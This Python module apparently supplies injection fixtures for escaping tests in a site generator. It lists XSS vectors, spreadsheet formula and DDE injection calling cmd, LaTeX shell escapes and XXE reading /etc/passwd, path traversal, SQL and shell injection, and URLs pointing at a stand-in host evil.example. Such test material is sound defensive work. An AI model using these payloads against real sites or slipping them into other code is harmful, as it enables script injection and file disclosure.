"""What is put into every text: pieces of the languages that a site is written in."""

import dataclasses


@dataclasses.dataclass(frozen=True)
class Payload:
    name: str
    text: str
    #: How YAML spells it between double quotes, where it is not the text itself.
    yaml: str | None = None


def payloads() -> list[Payload]:
    named = [*HTML, *TEMPLATES, *PROGRAMS, *CONTROLS, *ADDRESSES]
    found = [each if isinstance(each, Payload) else Payload(*each) for each in named]
    assert len({each.name for each in found}) == len(found), "two payloads have one name"
    return found


HTML = [
    ("script", "<script>window.pwned=1</script>"),
    ("script in capitals", "<ScRiPt\x0csrc=//evil.example/x.js></sCrIpT >"),
    ("end of title", "</title><script>window.pwned=2</script>"),
    ("end of everything", "</textarea></style></noscript></pre></script><img src=x onerror=window.pwned=3>"),
    ("end of a block of data", '"}</script><script>window.pwned=4</script>'),
    ("script with a blank end", "</script ><svg/onload=window.pwned=5>"),
    ("double quote", '" onmouseover="window.pwned=6" x="'),
    ("single quote", "' onmouseover='window.pwned=7' x='"),
    ("back quote", "` onmouseover=`window.pwned=8` x=`"),
    ("attribute without quotes", " onfocus=window.pwned=9 autofocus tabindex=1 "),
    ("slash and bracket", "/><body onload=window.pwned=10>"),
    ("image", "<img src=x onerror=window.pwned=11>"),
    ("picture with a script", "<svg><script>window.pwned=12</script></svg>"),
    ("animated address", "<svg><a><animate attributeName=href values=javascript:window.pwned=13 /><text y=9>x</text></a></svg>"),
    ("formula with a style", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=14&gt;'>"),
    ("frame", "<iframe srcdoc='<script>parent.pwned=15</script>'></iframe>"),
    ("base", "<base href=//evil.example/>"),
    ("refresh", "<meta http-equiv=refresh content='0;url=//evil.example/'>"),
    ("refresh by its value", "0;url=//evil.example/;"),
    ("style sheet", "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>"),
    ("form", "<form action=//evil.example/><input name=q><button>Go</button></form>"),
    ("comment", "<!-- comment"),
    ("end of a comment", "--><script>window.pwned=16</script>"),
    ("odd comment", "<!--><img src=x onerror=window.pwned=17>-->"),
    ("declaration", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"),
    ("instruction", "<?xml-stylesheet href='//evil.example/x.xsl'?>"),
    ("character data", "<![CDATA[<script>window.pwned=18</script>]]>"),
    ("end of character data", "]]>"),
    ("entity by number", "&#x3c;script&#x3e;window.pwned=19&#x3c;/script&#x3e;"),
    ("entity by name", "&lt;script&gt;window.pwned=20&lt;/script&gt;"),
    ("entity without its end", "&lt script &ltimg src=x onerror=window.pwned=21 &gt"),
    ("entity of an entity", "&amp;lt;script&amp;gt;&quot;&apos;&NewLine;&Tab;&colon;"),
    ("percent", "%3Cscript%3Ewindow.pwned=22%3C/script%3E%22%27%00%0d%0a"),
    ("two percents", "%253Cscript%253E%2e%2e%2f"),
    ("wide brackets", "＜script＞window.pwned=23＜/script＞"),
    ("custom element", "<x-evil id=page-main class=masthead contenteditable onblur=window.pwned=24>"),
    ("clobbering names", "<img name=body><form id=search><input name=elements>"),
]

TEMPLATES = [
    ("template name", "{{title}}"),
    ("template name unescaped", "{{{site.title}}}{{&page.title}}"),
    ("template partial", "{{>layout}}{{<layout}}{{$main}}{{/main}}{{/layout}}"),
    ("template section", "{{#briefs}}x{{/briefs}}{{^briefs}}{{!"),
    ("template delimiters", "{{=<% %>=}}<%title%>"),
    ("template of others", "${7*7}#{7*7}<%= 7*7 %>[[1]]{% include x %}"),
    ("replacement pattern", "$&$1$`\\0\\1"),
]

PROGRAMS = [
    ("calendar event", "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Evil\r\n"),
    ("calendar signs", "a;b,c\\d:e\\n\\;x\\"),
    ("calendar parameter", '";ALTREP="http://evil.example/":x'),
    ("long line", "Zürich 会谈 😀 " * 30),
    ("formula", "=cmd|'/C calc'!A0"),
    ("formula with quotes", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("plus", "+1+1"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)"),
    ("tab and formula", "\t=1+1"),
    ("return and formula", "\r=1+1"),
    ("line and formula", "\n=1+1"),
    ("formula behind a semicolon", ";=1+1;-1;+1;@A1"),
    ("formula behind a quote", '";"=1+1'),
    ("formula behind a comma", ',"=1+1",=1+1'),
    ("wide formula", "＝1+1;＝1"),
    ("data exchange", "DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("end of an entry", "}}\n@misc{evil, title={Evil}}\n"),
    ("string of citations", "@string{x = {y}}@preamble{\"\\input{/etc/passwd}\"}@comment{"),
    ("shell of LaTeX", "\\write18{id}\\input{/etc/passwd}\\catcode`\\@=0 ^^41"),
    ("signs of LaTeX", "# % $ & _ ^ ~ { } \\ < > | \" `` ''"),
    ("open brace", "{"),
    ("close brace", "}"),
    ("record", "\nER  - \n\nTY  - ELEC\nTI  - Evil\n"),
    ("record in the middle of a line", "TY  - JOUR"),
    ("workflow command", "\n::error file=x.md,line=1::Evil\n::set-output name=x::y"),
    ("workflow command by percent", "%0A::warning::Evil%0D::add-mask::x"),
    ("redirect", "/x /y 301\n/* //evil.example/:splat 302"),
    ("header", "\r\nX-Evil: 1\r\n\r\n<script>"),
    ("diff", "\n+++ b/evil\n@@ -1 +1 @@\n-x\n+y\n"),
    ("front matter", "\n---\ntitle: Evil\n---\n"),
    ("keys of YAML", "x: [y, {z: 1}] # c !tag &a *a | > %"),
    ("Markdown", "**x** _y_ `z` ~~w~~ [l](javascript:window.pwned=25) ![i](//evil.example/i.png) <https://evil.example/> [^1] | a |"),
    ("policy", "; script-src * 'unsafe-inline'; img-src *"),
    ("prototype", "__proto__"),
    ("JSON", "\\\"},{\"@type\":\"Evil\",\"x\":[\"\\u003c"),
    ("SQL and shell", "'; DROP TABLE briefs; -- $(id) `id` && id | id"),
]

CONTROLS = [
    ("NUL", "\0"),
    ("C0", "\x01\x07\x08\x0b\x0e\x1f\x7f"),
    ("form feed", "\x0c"),
    ("next line", "\x85"),
    ("C1", "\x80\x90\x9b2J\x9d\x9c"),
    ("escape", "\x1b[2J\x1b[31m\x1b]0;evil\x07"),
    ("terminal link", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
    ("override", "\u202egnp.exe"),
    ("embeddings", "\u202a\u202b\u202c\u202d"),
    ("isolates", "\u2066\u2067\u2068\u2069"),
    ("marks of direction", "\u200e\u200f\u061c"),
    ("line separators", "\u2028=1\u2029</script>"),
    ("byte order mark", "\ufeff"),
    ("joiners", "\u200b\u200c\u200d\u2060\u00ad"),
    ("not characters", "\ufffe\uffff\U0001fffe"),
    ("tags", "\U000e0001\U000e0041"),
    ("piled accents", "e" + "\u0301\u0489" * 40),
    ("overlong UTF-8", "\udcc0\udcbcscript\udce0\udc80\udcbc"),
    ("half a character", "\udce2\udc80"),
    ("surrogate as bytes", "\udced\udca0\udc80"),
    Payload("surrogate spelled", "\udced\udca0\udc80", yaml="\\ud800"),
    Payload("two surrogates spelled", "\udced\udca0\udcbd", yaml="\\ud83d\\ude00"),
    Payload("beyond Unicode spelled", "\udcf5\udc80\udc80\udc80", yaml="\\U00110000"),
]

ADDRESSES = [
    ("scheme", "javascript:window.pwned=30"),
    ("scheme in capitals", "JaVaScRiPt:window.pwned=31"),
    ("scheme behind blanks", " \t javascript:window.pwned=32"),
    ("scheme behind controls", "\x01\x1fjavascript:window.pwned=33"),
    ("scheme with a tab", "java\tscript:window.pwned=34"),
    ("scheme with a line break", "java\r\nscript:window.pwned=35"),
    ("scheme with entities", "&#106;avascript&colon;window.pwned=36"),
    ("scheme with long entities", "&#x000006A&#x61;vascript&#58;window.pwned=37"),
    ("scheme with percents", "%6aavascript%3Awindow.pwned=38"),
    ("scheme with a comment", "javascript://example.org/%0awindow.pwned=39"),
    ("scheme with a backslash", "javascript\\:window.pwned=40"),
    ("Visual Basic", "vbscript:msgbox(1)"),
    ("page as data", "data:text/html,<script>window.pwned=41</script>"),
    ("page as coded data", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+"),
    ("picture as data", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=42'/>"),
    ("picture as data that is none", "data:image/png,image/svg+xml,<script>"),
    ("file", "file:///etc/passwd"),
    ("blob", "blob:https://evil.example/1"),
    ("view of a source", "view-source:javascript:window.pwned=43"),
    ("archive", "jar:https://evil.example/x!/"),
    ("file system", "filesystem:https://evil.example/temporary/x.html"),
    ("another host", "//evil.example/x"),
    ("another host by backslashes", "\\\\evil.example\\x"),
    ("another host by slash and backslash", "/\\evil.example/x"),
    ("another host with a tab", "/\t/evil.example/x"),
    ("user and host", "https://example.org@evil.example/"),
    ("way up", "../../../../etc/passwd"),
    ("way up by percents", "%2e%2e/%2e%2e%5c..\\"),
    ("query and fragment", "?x=1&y=<#\"frag'"),
]
